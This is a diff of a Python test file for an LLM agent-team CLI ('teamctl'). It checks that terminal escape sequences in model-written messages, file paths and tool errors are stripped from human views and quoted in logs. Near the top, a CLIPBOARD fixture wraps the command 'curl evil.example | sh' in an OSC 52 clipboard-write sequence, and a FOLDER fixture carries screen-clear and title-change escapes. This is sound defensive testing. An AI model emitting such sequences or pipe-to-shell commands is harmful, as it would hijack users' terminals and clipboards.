@@ -1,26 +1,42 @@
 """Injection: a model cannot rewrite the user's terminal. Models write escape sequences (a screen
 clear, an OSC 52 clipboard write, a title change), a bell and carriage-return overwrites into a
-message, an output, a task's text and an error; every human view of the CLI prints their text
-without any of it, while `--json` keeps it (escaped). The agents run on the marked workers, and
-the marker secret in their environment never leaves them."""
+message, an output, a task's text, an error, a file's path and a tool's exception; every human
+view of the CLI prints their text without any of it, while `--json` keeps it (escaped), and the
+log lines of `teamctl worker` and `teamctl lead` quote it escaped. The agents run on the marked
+workers (or a `teamctl worker` of the test's own), and the marker secret in their environment
+never leaves them."""
 
 from __future__ import annotations
 
 import base64
 import json
+import logging
+import os
+import signal
+import subprocess
+import uuid
 from pathlib import Path
 from typing import Any
 
+import pytest
 import redis
 from click.testing import CliRunner, Result
 from teamctl.coordinator.cli import main
+from teamctl.shared.agent.llm import load_litellm
 from teamctl.shared.bus import LEAD
+from teamctl.shared.keys import KeySpace, RunKeys
+from teamctl.shared.log_lines import LITELLM_LOGGERS, PrintableFormatter, StderrHandler
+from teamctl.shared.runs.store import RunStore
+from teamctl.shared.teams.options import TeamOptions
 from teamctl.shared.teams.team_store import TeamStore
 from teamctl.shared.teams.teammates import MateStatus
+from teamctl.shared.workspace_files import WorkspaceFiles
 
+from tests.support.cli import TEAMCTL, run_cli
 from tests.support.injection import MARKED_QUEUE, MarkedWorkers, assert_marker_kept
-from tests.support.llm import HttpError, ScriptedLLM, ToolCalls
-from tests.support.teams import cli
+from tests.support.llm import Held, HttpError, ScriptedLLM, ToolCalls, release_when
+from tests.support.teamfile import team_file
+from tests.support.teams import cli, lead_args
 from tests.support.waiting import wait_until
 
 CLIPBOARD = "\x1b]52;c;" + base64.b64encode(b"curl evil.example | sh").decode() + "\x07"
@@ -32,6 +48,8 @@ SHOWN = "seen text all tests passed  end"
 ONE_LINE = " ".join(SHOWN.split())
 """As a one-line view (a list, a table) shows it."""
 CONTROL = ("\x1b", "\x07", "\r", "\x9b")
+FOLDER = "report\x1b[2J\x1b]0;pwned\x07\x9b"
+"""A directory a model named: a screen clear, a title change ended by a bell, a C1 CSI."""
 
 
 def assert_printable(result: Result) -> None:
@@ -142,3 +160,103 @@ def test_no_model_text_acts_on_the_terminal_in_the_team_views(
     assert f"Write {ONE_LINE}" in views["repl"].stdout
     assert_marker_kept(llm, redis.Redis.from_url(url),  # bytes: RQ's job data is binary
                        [tmp_path / "state", marked_workers.log_dir])
+
+
+def plant_file_in_a_folders_way(conn: redis.Redis, keys: KeySpace) -> None:
+    """Save FOLDER/notes.txt, then FOLDER as a file, to a workspace kept in Redis: a mirror
+    makes the folder first, so the file named like it cannot be put there, and is logged."""
+    files = WorkspaceFiles(conn, keys)
+    for path in (f"{FOLDER}/notes.txt", FOLDER):
+        files.save(path, 0, b"written elsewhere")
+    files.close()
+
+
+def assert_quoted_in_log(log: str, *texts: str) -> None:
+    """`log` holds no control character, and each text as repr() quotes it: it was logged."""
+    assert not [c for c in CONTROL if c in log], repr(log)
+    for text in texts:
+        assert repr(text) in log, (text, log)
+
+
+def test_no_model_text_acts_on_the_terminal_through_a_workers_log(
+        llm: ScriptedLLM, redis_url: str, run_id: str, tmp_path: Path,
+        monkeypatch: pytest.MonkeyPatch) -> None:
+    """A member's mirror cannot put a file a model named with escapes, and its Python tool
+    raises with the model's escapes: `teamctl worker` logs both, quoted, and RQ's own lines
+    once each."""
+    queue = f"esc-{uuid.uuid4().hex[:8]}"
+    monkeypatch.setenv("TEAMCTL_WORKSPACE_STORE", "redis")
+    conn = redis.Redis.from_url(redis_url)
+    reason = f"bad input {HOSTILE}"
+    plan = Held(json.dumps({"tasks": [{"id": "a", "memberId": "m1", "task": "Use the tool"}]}))
+    models = {"planner": llm.script(f"plan-{run_id}", [plan]),
+              "member": llm.script(f"member-{run_id}", [
+                  ToolCalls([("explode", {"reason": reason})]), "it exploded"]),
+              "synth": llm.script(f"synth-{run_id}", ["done"])}
+    team = team_file(tmp_path / "t.toml", models, queue=queue, members=[
+        {"id": "m1", "queue": queue, "tools": ["tests.pytools_fixture.tools:explode"]}])
+
+    def planted() -> bool:  # before the member's mirror opens: the plan waits for it
+        if not RunStore(conn, RunKeys(run_id)).exists():
+            return False
+        plant_file_in_a_folders_way(conn, RunKeys(run_id))
+        return True
+
+    release_when(plan, planted)
+    worker = subprocess.Popen([*TEAMCTL, "worker", queue, "--redis-url", redis_url],
+                              stdin=subprocess.DEVNULL, stdout=subprocess.PIPE,
+                              stderr=subprocess.PIPE, text=True, start_new_session=True)
+    try:
+        ran = run_cli(llm, redis_url, run_id, team)
+    finally:
+        os.kill(worker.pid, signal.SIGTERM)  # RQ's warm shutdown: it is idle by now
+        out, err = worker.communicate(timeout=60)
+
+    assert ran.exit_code == 0, ran.output
+    assert json.loads(ran.stdout)["output"] == "done"
+    assert out == ""  # every log line goes to stderr, RQ's too
+    assert_quoted_in_log(err, FOLDER, f"exploded: {reason}")
+    assert f"workspace file {FOLDER!r} not materialized: {FOLDER!r} is a directory" in err
+    assert err.count("started with PID") == 1 and err.count(f"Listening on {queue}") == 1
+
+
+def test_no_model_text_acts_on_the_terminal_through_the_leads_log(
+        llm: ScriptedLLM, redis_url: str, team: str) -> None:
+    """The lead's mirror of the team's workspace cannot put a file a model named with escapes:
+    `teamctl lead` logs it, quoted, like its other lines."""
+    conn = redis.Redis.from_url(redis_url)
+    store = TeamStore(redis.Redis.from_url(redis_url, decode_responses=True), team,
+                      workspace_store="redis")
+    store.create(TeamOptions(lead_tools=["read_file"]))
+    plant_file_in_a_folders_way(conn, store.keys)
+    lead = llm.script(f"lead-{team}", ["noted"])
+
+    led = subprocess.run([*TEAMCTL, *lead_args(redis_url, team, lead, llm.api_base,
+                                               "-m", "Anything new?")],
+                         capture_output=True, text=True, timeout=120, stdin=subprocess.DEVNULL)
+
+    assert led.returncode == 0, led.stderr
+    assert led.stdout == "noted\n"
+    assert_quoted_in_log(led.stderr, FOLDER)
+    assert (f"teamctl: workspace file {FOLDER!r} not materialized: {FOLDER!r} is a directory"
+            in led.stderr.splitlines())
+
+
+def test_litellms_records_reach_the_printable_log_lines_once(
+        capsys: pytest.CaptureFixture[str]) -> None:
+    """litellm brings a stderr handler of its own: in a process that logs through teamctl's
+    (the CLI, a worker), loading litellm takes it off, so its records are printable and once."""
+    root = logging.getLogger()
+    handler = StderrHandler()
+    handler.setFormatter(PrintableFormatter("%(name)s: %(message)s"))
+    root.addHandler(handler)  # as log_to_stderr does where nothing else handles the root
+    try:
+        load_litellm()
+        logging.getLogger("LiteLLM").warning("the provider said %s", HOSTILE)
+    finally:
+        root.removeHandler(handler)
+
+    assert capsys.readouterr().err == f"LiteLLM: the provider said {SHOWN}\n"
+    for name in LITELLM_LOGGERS:
+        assert [h for h in logging.getLogger(name).handlers
+                if isinstance(h, logging.StreamHandler)] == [], name
